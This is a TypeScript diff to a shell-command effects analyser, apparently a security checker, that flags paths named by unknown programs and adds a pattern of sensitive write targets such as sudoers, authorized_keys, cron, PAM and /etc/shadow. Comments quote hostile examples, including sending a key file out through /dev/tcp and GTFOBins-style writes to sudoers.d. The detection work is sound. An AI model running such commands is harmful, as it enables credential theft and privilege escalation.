@@ -6,6 +6,7 @@
  * here, as data, one module per kind of effect.
  */
 import type { ShellCommand } from '../shell/model.js';
+import { resolveIn } from './paths.js';
 import { deleteTargets, writeTargets } from './writes.js';
 import { readSources } from './reads.js';
 import { sendsOf, type Send } from './network.js';
@@ -32,6 +33,24 @@ export interface Effects {
 
 const cache = new WeakMap<ShellCommand, Effects>();
 
+/** Programs whose arguments only name files, print them or read them as already modelled: a path
+ * mentioned inside their arguments is not an extra effect. */
+const MENTION_SAFE = new Set(['', 'echo', 'printf', 'ls', 'stat', 'file', 'test', '[', '[[', 'which', 'type', 'cd', 'pushd', 'mkdir', 'chmod', 'chown', 'chgrp', 'touch', 'rm', 'rmdir', 'unlink', 'ln', 'readlink', 'realpath', 'basename', 'dirname', 'du', 'df', 'find', 'grep', 'egrep', 'fgrep', 'rg', 'ag', 'git', 'export', 'local', 'declare', 'alias', 'cat', 'head', 'tail', 'less', 'more', 'wc', 'diff', 'cmp', 'cp', 'mv', 'install', 'tee', 'sed', 'dd', 'curl', 'wget', 'scp', 'rsync', 'ssh', 'sort', 'uniq', 'cut', 'tr', 'jq', 'xargs', 'sudo', 'env', 'docker', 'kubectl', 'python', 'python3', 'node', 'npm', 'pip', 'pip3', 'make', 'go', 'cargo', 'pytest', 'tar', 'zip', 'unzip', 'gzip', 'ssh-keygen', 'openssl', 'visudo', 'getfacl', 'lsattr', 'md5sum', 'sha256sum', 'sha1sum', 'shasum', 'strings', 'xxd', 'od', 'hexdump', 'ldd', 'nm', 'objdump', 'readelf', 'code', 'vim', 'vi', 'nano', 'emacs', 'open', 'bat']);
+/** Paths an unknown program most likely writes when it names them (GTFOBins' file-write entries
+ * take the output path in an option of their own): sudoers, authorized_keys, cron, shell start-up
+ * files, PAM, the loader preload list, the account databases, service directories. */
+const SENSITIVE_TARGET = /^\/etc\/sudoers(?:\.d\/.+)?$|(?:^|\/)\.ssh\/authorized_keys2?$|^\/etc\/crontab$|^\/etc\/cron\.[a-z]+\/|^\/var\/spool\/cron\/|^(?:~|\/root|\/home\/[^/]+)\/\.(?:bashrc|bash_profile|profile|zshrc)$|^\/etc\/pam\.d\/|^\/etc\/ld\.so\.preload$|^\/etc\/(?:passwd|shadow|group)$|^\/etc\/systemd\/system\/|^\/etc\/profile\.d\//;
+/** A path inside an argument: the argument itself, after `=`/`@`/`file://`, or one word of a quoted option string (`-C 'Include /etc/shadow'`). */
+const EMBEDDED_PATH = /(?:^|[\s=@:'"(<,]|file:\/\/)((?:~|\/)[\w.~+\/-]*[\w~])/g;
+
+/** Paths named anywhere in the arguments of a program the effects tables do not know. */
+function mentionedPaths(cmd: ShellCommand): string[] {
+  if (MENTION_SAFE.has(cmd.name) || cmd.argv.length < 2) return [];
+  const out: string[] = [];
+  for (const a of cmd.argv.slice(1)) for (const m of a.matchAll(EMBEDDED_PATH)) if (m[1]!.length > 1 && out.length < 32) out.push(resolveIn(cmd.cwd, m[1]!));
+  return out;
+}
+
 /**
  * The effects of one command, computed once per command object.
  * @param cmd a simple command of a parsed command line.
@@ -43,7 +62,15 @@ export function effectsOf(cmd: ShellCommand): Effects {
     const reads = readSources(cmd);
     // what a command writes into /dev/tcp is what it read (`cat key >/dev/tcp/h/p`)
     const sends = sendsOf(cmd).map((s) => (s.channel === 'dev-tcp' ? { ...s, files: [...new Set([...s.files, ...reads])] } : s));
-    e = { writes: writeTargets(cmd), reads, deletes: deleteTargets(cmd), sends };
+    // paths named by a program the tables do not know: read, and written when they are targets
+    // nothing reads for a living (`exiftool -filename=/etc/sudoers.d/x`, `apache2 -C 'Include /etc/shadow'`)
+    const mentioned = mentionedPaths(cmd);
+    const writes = writeTargets(cmd);
+    for (const p of mentioned) {
+      if (!reads.includes(p)) reads.push(p);
+      if (SENSITIVE_TARGET.test(p) && !writes.includes(p)) writes.push(p);
+    }
+    e = { writes, reads, deletes: deleteTargets(cmd), sends };
     cache.set(cmd, e);
   }
   return e;
